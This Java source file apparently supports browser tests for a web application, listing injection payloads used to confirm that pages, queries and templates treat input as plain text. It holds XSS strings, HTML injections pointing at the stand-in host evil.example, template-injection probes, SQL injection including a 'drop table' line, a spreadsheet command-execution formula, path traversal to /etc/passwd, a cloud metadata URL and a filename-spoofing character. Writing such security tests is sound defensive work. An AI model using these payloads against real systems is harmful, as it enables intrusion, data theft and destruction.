package kportal.browser;

import java.util.List;

/** Texts that would run, if a page, a query or a template took them for more than text. */
final class Payloads {
    /** 1337 × 7331: nobody writes it by chance. */
    static final String CALCULATED = "9801547";

    static final List<String> ALL = List.of(
            "<script>window.pwned=1</script>",
            "</script><script>window.pwned=1</script>",
            "<img src=x onerror=window.pwned=1>",
            "<svg onload=window.pwned=1>",
            "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
            "\"><script>window.pwned=1</script>",
            "'><img src=x onerror=window.pwned=1>",
            "\" autofocus onfocus=window.pwned=1 x=\"",
            "' onmouseover='window.pwned=1' style='position:fixed;inset:0",
            "javascript:window.pwned=1",
            "</textarea><script>window.pwned=1</script>",
            "</title><script>window.pwned=1</script>",
            "</option></select><img src=x onerror=window.pwned=1>",
            "<iframe srcdoc='<script>parent.pwned=1</script>'>",
            "<meta http-equiv=refresh content='0;url=/logout'>",
            "<base href=//evil.example/>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<style>*{display:none}</style>",
            "<form action=//evil.example><button>OK",
            "<a hx-get=/logout hx-trigger=load>x</a>",
            "<div hx-on:htmx:load=window.pwned=1 data-hx-trigger=load>",
            "<!--",
            "-->",
            "<![CDATA[<script>window.pwned=1</script>]]>",
            "&lt;script&gt;window.pwned=1&lt;/script&gt;",
            "＜script＞window.pwned=1＜/script＞",
            "${1337*7331}",
            "[[${1337*7331}]]",
            "[(${1337*7331})]",
            "__${1337*7331}__::x",
            "~{::x(${1337*7331})}",
            "*{1337*7331}",
            "#{1337*7331}",
            "@{|${1337*7331}|}",
            "{{1337*7331}}",
            "<%= 1337*7331 %>",
            "{0}{1}{2}",
            "%s%n%d",
            "' or '1'='1",
            "'; drop table transactions;--",
            "\" or \"\"=\"",
            "1) or (1=1",
            "%' or 1=1--",
            "\\' or 1=1--",
            "%25%27%20or%201=1",
            "_",
            "%",
            "\\",
            "=cmd|'/c calc'!A1",
            "../../../etc/passwd",
            "http://169.254.169.254/",
            "\u202Ewp.exe");

    private Payloads() {}
}
